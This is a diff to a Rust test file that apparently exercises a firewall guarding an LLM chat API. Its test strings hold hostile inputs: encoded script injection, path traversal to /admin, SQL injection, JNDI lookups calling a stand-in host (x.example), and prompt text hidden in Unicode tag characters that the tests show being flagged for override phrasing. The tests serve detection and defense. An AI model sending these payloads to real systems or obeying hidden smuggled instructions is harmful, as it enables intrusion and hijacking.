@@ -139,6 +139,24 @@ fn request_target_anomalies() {
         "hi",
         expect!["Matched 3 [920220@REQUEST_URI percent sign without two hexadecimal digits]"],
     );
+    // A stray `%` is reported and kept as it is; the escapes around it are still decoded
+    // and read.
+    check(
+        "/v1/chat/completions?q=%3Cscript%3E&x=%",
+        &[JSON],
+        "hi",
+        expect![
+            "Blocked 8 [920220@REQUEST_URI percent sign without two hexadecimal digits, 941100@REQUEST_URI injection pattern]"
+        ],
+    );
+    check(
+        "/v1/%2e%2e/admin?x=%zz",
+        &[JSON],
+        "hi",
+        expect![
+            "Blocked 8 [920220@REQUEST_URI percent sign without two hexadecimal digits, 930100@REQUEST_URI dot segment]"
+        ],
+    );
     check(
         "/v1/models?q=1%27+or+1%3D1",
         &[JSON],
@@ -250,6 +268,36 @@ fn prompt_attacks() {
             "Blocked 8 [990110@PROMPT:0 Unicode tag characters outside a flag, 990130@PROMPT:0 override phrasing]"
         ],
     );
+    // A flag's base before them excuses only a subdivision flag's code: a few letters or
+    // digits closed by the cancel tag. England's flag passes; the same hidden text after
+    // the base, or after a whole flag, does not.
+    check(
+        "/v1/chat/completions",
+        &[JSON],
+        &format!("What is the capital of France?\u{1F3F4}{hidden}"),
+        expect![
+            "Blocked 8 [990110@PROMPT:0 Unicode tag characters outside a flag, 990130@PROMPT:0 override phrasing]"
+        ],
+    );
+    let england = "\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}";
+    check(
+        "/v1/chat/completions",
+        &[JSON],
+        &format!("Go {england}!"),
+        expect!["Allowed 0 []"],
+    );
+    check(
+        "/v1/chat/completions",
+        &[JSON],
+        &format!("Go {england}{hidden}"),
+        expect!["Blocked 5 [990110@PROMPT:0 Unicode tag characters outside a flag]"],
+    );
+    check(
+        "/v1/chat/completions",
+        &[JSON],
+        "\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067} without its cancel tag",
+        expect!["Blocked 5 [990110@PROMPT:0 Unicode tag characters outside a flag]"],
+    );
     check(
         "/v1/chat/completions",
         &[JSON],
@@ -328,6 +376,11 @@ fn the_body_outside_prompts_is_read_for_lookups_and_injections() {
     let prompts = ["hello".to_owned()];
     let mut with_user = request("/v1/chat/completions", &[JSON], &prompts);
     with_user.other_text = "gpt-4o\n${jndi:dns://x.example/a}\n";
+    expect!["Blocked 5 [944150@REQUEST_BODY jndi lookup]"]
+        .assert_eq(&render(&Waf::default(), &with_user));
+    // However many bytes of other fields come before it.
+    let padded = format!("{}\n${{jndi:ldap://x.example/a}}\n", "a".repeat(16_400));
+    with_user.other_text = &padded;
     expect!["Blocked 5 [944150@REQUEST_BODY jndi lookup]"]
         .assert_eq(&render(&Waf::default(), &with_user));
     with_user.other_text = "gpt-4o\n1' OR '1'='1\n";
